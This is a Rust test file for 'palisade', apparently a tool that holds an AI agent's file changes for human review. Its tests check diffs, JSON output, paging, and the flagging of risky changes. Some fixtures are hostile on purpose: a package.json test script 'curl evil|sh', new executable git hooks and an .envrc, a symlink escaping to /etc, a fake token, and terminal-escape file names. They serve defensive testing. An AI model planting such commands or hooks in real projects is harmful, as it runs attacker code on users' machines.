use palisade_test_support::{Need, Terminal, each_identity, need};
use serde_json::Value;

use super::*;

fn place(text: &str, what: &str) -> usize {
    text.find(what)
        .unwrap_or_else(|| panic!("{what:?} is not in\n{text}"))
}

each_identity! {
    fn a_review_sums_up_and_shows_each_difference(who) {
        let fixture = Fixture::new(who, &[
            ("a.txt", "1\n2\n3\n"),
            ("gone.txt", "x\n"),
            ("old-name", "the same\n"),
            ("run.sh", "#!/bin/sh\n"),
            ("same.txt", "untouched\n"),
            ("folder/inner", "y\n"),
        ]);
        fixture
            .wrote("a.txt", "1\ntwo\n3\n")
            .wrote("same.txt", "untouched\n")
            .wrote("new/file.txt", "hello")
            .wrote("picture.png", b"\x89PNG\0")
            .wrote("new-name", "the same\n")
            .wrote_with_mode("run.sh", "#!/bin/sh\n", 0o755)
            .removed("gone.txt")
            .removed("old-name")
            .replaced_folder("folder");
        let shown = fixture.palisade(&["review"]).expect(0);
        for text in [
            "session 20261123-031502-k3f9c (agent) in",
            "1 changed", "1 renamed", "1 with another mode", "1 binary",
            "M a.txt  +1 -1",
            "A new/file.txt  +1",
            "D gone.txt  -1",
            "D folder/inner  -1",
            "R old-name -> new-name",
            "M run.sh  0644 -> 0755",
            "A picture.png  binary, 5 bytes",
            "@@ -1,3 +1,3 @@\n 1\n-2\n+two\n 3\n",
            "+hello\n\\ No newline at end of file\n",
            "renamed from old-name",
            "became executable",
        ] {
            place(&shown.stdout, text);
        }
        assert!(!shown.stdout.contains("same.txt"), "{shown}");
        assert!(!shown.stdout.contains('\x1b'), "no colour into a pipe: {shown}");
        let short = fixture.palisade(&["review", "--stat"]).expect(0);
        assert!(!short.stdout.contains("@@") && short.stdout.contains("M a.txt  +1 -1"), "{short}");
        // Looking decides nothing.
        assert_eq!(fixture.host("a.txt"), "1\n2\n3\n");
        fixture.palisade(&["review", "--stat"]).expect(0).expect_output("M a.txt");
    }

    fn what_the_host_would_run_comes_first(who) {
        let fixture = Fixture::new(who, &[("package.json", "{\"scripts\":{\"test\":\"jest\"}}")]);
        fixture
            .wrote("aaa.txt", "harmless\n")
            .wrote("package.json", "{\"scripts\":{\"test\":\"curl evil|sh\"}}")
            .wrote_with_mode(".git/hooks/pre-commit", "#!/bin/sh\nevil\n", 0o755)
            .wrote(".git/objects/aa/bb", "x")
            .wrote("zzz/.envrc", "evil\n")
            .wrote("key.txt", "token = ghp_0123456789abcdefghij\n")
            .linked("way-out", "../../../etc");
        let shown = fixture.palisade(&["review"]).expect(0).stdout;
        let first = place(&shown, "Look at these first");
        let list = place(&shown, "A aaa.txt");
        for flagged in [
            ".git/hooks/pre-commit  a hook that git runs; new and executable",
            "zzz/.envrc  direnv runs it",
            "way-out  leads out of the workspace, to ../../../etc",
            "key.txt  line 1: what looks like a token (ghp_",
            "package.json  scripts: test",
        ] {
            let at = place(&shown, flagged);
            assert!(first < at && at < list, "{flagged}:\n{shown}");
        }
        assert!(place(&shown, "+evil") < place(&shown, "+harmless"), "{shown}");
        place(&shown, ".git/  1 of git's own files");
        assert!(!shown.contains("objects/aa"), "{shown}");
    }

    fn names_that_a_folder_without_case_takes_for_one_are_flagged(who) {
        let fixture = Fixture::new(who, &[("docs/guide", "x"), ("docs/Moved", "same\n")]);
        fixture.wrote("docs/GUIDE", "y").wrote("docs/moved", "same\n").removed("docs/Moved").wrote("a/x", "1").wrote("a/X", "2");
        let shown = fixture.palisade(&["review", "--stat"]).expect(0);
        for flagged in ["docs/GUIDE  differs from guide in upper", "a/X  differs from x", "a/x  differs from X"] {
            assert!(shown.stdout.contains(flagged), "{flagged}: {shown}");
        }
        assert!(!shown.stdout.contains("docs/moved  differs"), "only its case changed: {shown}");
    }

    fn a_file_made_to_be_hard_to_compare_is_still_reviewed(who) {
        // Two texts of few different lines in random order: the shortest difference would take hours.
        let text = |mut seed: u64| -> String {
            let mut line = || {
                seed = seed.wrapping_mul(6_364_136_223_846_793_005).wrapping_add(1_442_695_040_888_963_407);
                if seed >> 63 == 0 { "a\n" } else { "b\n" }
            };
            (0..400_000).map(|_| line()).collect()
        };
        let fixture = Fixture::new(who, &[("hard", &text(1)), ("many", &"\n".repeat(3_000_000))]);
        fixture.wrote("hard", text(2)).wrote("many", "x\n");
        let shown = fixture.palisade(&["review", "--stat"]).expect(0);
        shown.expect_output("M hard  +").expect_output("M many  too large to compare");
        fixture.palisade(&["apply", "--yes"]).expect(0);
        assert_eq!(fixture.host("hard"), text(2));
    }

    fn nothing_an_agent_wrote_steers_the_terminal(who) {
        let fixture = Fixture::new(who, &[]);
        fixture
            .wrote("na\x1b[2Jme\u{202e}", "con\x1b]0;owned\x07tent \u{202e}\n")
            .linked("link", "\x1b[31mtarget");
        // The bytes are there: the test can fail.
        assert!(fs::read_dir(fixture.upper("")).unwrap().flatten().any(|e| e.file_name().as_encoded_bytes().contains(&0x1b)));
        for arguments in [&["review"][..], &["review", "--stat"], &["review", "--json"], &["apply", "--yes"]] {
            let shown = fixture.palisade(arguments);
            let text = shown.stdout.clone() + &shown.stderr;
            assert!(!text.contains(['\x1b', '\x07']), "{arguments:?}: {shown}");
            if arguments[0] == "review" && arguments.len() == 1 {
                assert!(!text.contains('\u{202e}'), "{shown}");
                place(&text, "na\\u{1b}[2Jme\\u{202e}");
                place(&text, "con\\u{1b}]0;owned\\u{7}tent");
            }
        }
    }

    fn json_says_it_to_programs(who) {
        let fixture = Fixture::new(who, &[("a", "1\n"), ("b", "2\n")]);
        fixture.wrote("a", "1\n2\n").removed("b").linked("l", "/etc").wrote_with_mode("bits", "x", 0o4755);
        let json: Value = serde_json::from_str(&fixture.palisade(&["review", "--json"]).expect(0).stdout).unwrap();
        assert_eq!((&json["version"], &json["session"]), (&1.into(), &ID.into()));
        let of = |path: &str| {
            let changes = json["changes"].as_array().unwrap();
            changes.iter().find(|change| change["path"] == path).unwrap_or_else(|| panic!("{path}: {json}")).clone()
        };
        let a = of("a");
        assert_eq!((&a["kind"], &a["lines_added"], &a["lines_removed"]), (&"changed".into(), &1.into(), &0.into()));
        assert_eq!((&a["before"]["mode"], &a["after"]["size"], &a["after"]["type"]), (&"0644".into(), &4.into(), &"file".into()));
        assert_eq!((&of("b")["kind"], &of("b")["after"]), (&"removed".into(), &Value::Null));
        assert_eq!((&of("l")["after"]["target"], &of("l")["flags"][0]["flag"]), (&"/etc".into(), &"leaves-tree".into()));
        assert_eq!(of("bits")["flags"][0]["flag"], "special-bits");
        fixture.wrote_bytes(b"odd\xff", "x");
        let json: Value = serde_json::from_str(&fixture.palisade(&["review", "--json"]).expect(0).stdout).unwrap();
        let odd = json["changes"].as_array().unwrap().iter().find(|c| c.get("path_hex").is_some()).unwrap();
        assert_eq!((&odd["path"], &odd["path_hex"]), (&"odd\u{fffd}".into(), &"6f6464ff".into()));
        let one: Value = serde_json::from_str(&fixture.palisade(&["review", "--json", "a"]).expect(0).stdout).unwrap();
        assert_eq!(one["changes"].as_array().unwrap().len(), 1);
        fixture.palisade(&["discard", "--yes"]).expect(0);
        let none: Value = serde_json::from_str(&fixture.palisade(&["review", "--json"]).expect(0).stdout).unwrap();
        assert_eq!((&none["session"], &none["changes"]), (&Value::Null, &Value::Array(Vec::new())));
    }

    fn git_applies_the_patch_and_gets_what_apply_gets(who) {
        need(&[Need::Program("git", "git")])?;
        let host = [("a b.txt", "1\n2\n"), ("gone", "x"), ("run.sh", "#!/bin/sh\n"), ("was/inner", "y\n")];
        let fixture = Fixture::new(who, &host);
        fixture
            .wrote("a b.txt", "1\ntwo\n")
            .wrote("bin\u{fc}\n", b"\0\xff\x01")
            .wrote_with_mode("run.sh", "#!/bin/sh\necho\n", 0o755)
            .linked("link", "a b.txt")
            .removed("gone")
            .removed("was")
            .wrote(".git/hooks/post-merge", "evil");
        let patch = fixture.palisade(&["review", "--patch"]).expect(0).expect_error("not in the patch: 1 of git's own files");
        assert!(!patch.stdout.contains("post-merge"), "{patch}");
        let copy = fixture.lab.path("copy");
        for (path, contents) in host {
            fixture.lab.write(&copy.join(path), contents);
        }
        fixture.lab.write(&copy.join("README.md"), "# a project\n");
        fixture.git_command(&["apply", "--whitespace=nowarn", "-"]).directory(&copy).stdin(patch.stdout).run().expect(0);
        fixture.palisade(&["apply", "--yes", "--except", ".git"]).expect(0);
        let compare = ["-r", "--no-dereference"];
        fixture.lab.outside("/usr/bin/diff").args(compare).args([&copy, &fixture.lab.workspace()]).run().expect(0);
        let mode = |folder: &Path| fs::metadata(folder.join("run.sh")).unwrap().permissions().mode() & 0o111;
        assert_eq!((mode(&copy), mode(&fixture.lab.workspace())), (0o111, 0o111));
    }

    fn the_newest_session_of_this_folder_is_meant(who) {
        let mut fixture = Fixture::new(who, &[]);
        fixture.wrote("mine", "x");
        let elsewhere = fixture.lab.path("elsewhere");
        fs::create_dir(&elsewhere).unwrap();
        who.own(&elsewhere);
        for (id, started, workspace) in [
            ("20261124-000000-other", 3, elsewhere.clone()),
            ("20261124-000001-older", 0, fixture.lab.workspace()),
        ] {
            fixture.session(id, started, &workspace);
            fixture.id = id;
            fixture.wrote("theirs", "x");
        }
        fixture.palisade(&["review", "--stat"]).expect(0).expect_output(ID);
        fixture.palisade(&["review", "--stat", "older"]).expect(0).expect_output("20261124-000001-older");
        let nowhere = fixture.lab.palisade(["review", "--stat"]).directory(Path::new("/")).run();
        nowhere.expect(0).expect_output("20261124-000000-other");
        let ambiguous = fixture.palisade(&["review", "20261124-"]).expect(125);
        ambiguous.expect_error("fits 2 sessions").expect_error("20261124-000000-other");
        let unknown = fixture.palisade(&["review", "20250101-000000-aaaaa"]).expect(125);
        unknown.expect_error("no session is named").expect_error(ID);
        let path = fixture.palisade(&["review", "nothing-here"]).expect(125);
        path.expect_error("changed nothing at nothing-here").expect_error(ID);
        fixture.palisade(&["review", "../out"]).expect(125).expect_error("is not in the workspace");
    }

    fn a_file_is_never_taken_for_a_session_in_silence(who) {
        let fixture = Fixture::new(who, &[]);
        // Parts of the session's name, as an agent may choose them.
        fixture.wrote("k3f9c", "x").wrote("k", "x").wrote("2026", "x").wrote("other", "x");
        let last = fixture.palisade(&["apply", "--yes", "k3f9c"]).expect(125);
        last.expect_error("is a part of a session's name, and a path").expect_error(ID);
        for path in ["k", "2026"] {
            fixture.palisade(&["apply", "--yes", path]).expect(0);
            assert!(fixture.exists(path) && !fixture.exists("other"), "{path}");
        }
        fixture.palisade(&["apply", "--yes", "--", "k3f9c"]).expect(0);
        assert!(fixture.exists("k3f9c") && !fixture.exists("other"));
    }

    fn no_changes_are_no_failure(who) {
        let fixture = Fixture::new(who, &[("a", "x")]);
        for command in ["review", "apply", "discard"] {
            fixture.palisade(&[command]).expect(0).expect_error("no session has pending changes");
        }
        fixture.wrote("a", "x");
        fixture.palisade(&["review"]).expect(0).expect_error("has no pending changes");
    }

    fn a_session_that_runs_is_refused_by_its_name(who) {
        let fixture = Fixture::new(who, &[]);
        fixture.wrote("a", "x");
        let log = fs::File::open(fixture.folder(ID).join("audit.jsonl")).unwrap();
        rustix::fs::flock(&log, rustix::fs::FlockOperation::LockExclusive).unwrap();
        for command in ["review", "apply", "discard"] {
            fixture.palisade(&[command]).expect(125).expect_error(&format!("session {ID} is running"));
        }
        drop(log);
        fixture.palisade(&["review"]).expect(0);
    }

    fn a_person_gets_the_pager_and_a_pipe_does_not(who) {
        let fixture = Fixture::new(who, &[]);
        fixture.wrote("a.txt", "x\n");
        let review = |name: &str, value: &str| fixture.lab.palisade(["review"]).env("PAGER", "sed 's/^/paged: /'").env(name, value);
        let mut terminal = Terminal::start(&review("NO_COLOR", "1"), 40, 120);
        terminal.expect("paged:   A a.txt");
        assert_eq!(terminal.wait(), 0);
        assert!(!terminal.screen().contains('\x1b'), "{}", terminal.screen());
        let mut coloured = Terminal::start(&review("OTHER", "1"), 40, 120);
        coloured.expect("\x1b[32m+x\x1b[0m");
        assert_eq!(coloured.wait(), 0);
        let piped = review("OTHER", "1").run().expect(0);
        assert!(!piped.stdout.contains("paged") && !piped.stdout.contains('\x1b'), "{piped}");
    }

    fn less_pages_a_long_review(who) {
        need(&[Need::Program("less", "less")])?;
        let fixture = Fixture::new(who, &[]);
        fixture.wrote("long", (0..500).map(|n| format!("line {n}\n")).collect::<String>());
        let mut terminal = Terminal::start(&fixture.lab.palisade(["review"]), 24, 80);
        terminal.expect("line 5");
        terminal.type_keys("G");
        terminal.expect("line 499");
        // To less, Ctrl-C means to stop searching; it must not end what feeds it.
        terminal.type_keys("\x03");
        // What was typed before it saw the interrupt it throws away.
        std::thread::sleep(Duration::from_millis(300));
        terminal.type_keys("g");
        terminal.expect("line 0");
        // Left early, with more than a pipe holds not yet read.
        terminal.type_keys("q");
        assert_eq!(terminal.wait(), 0);
    }
}
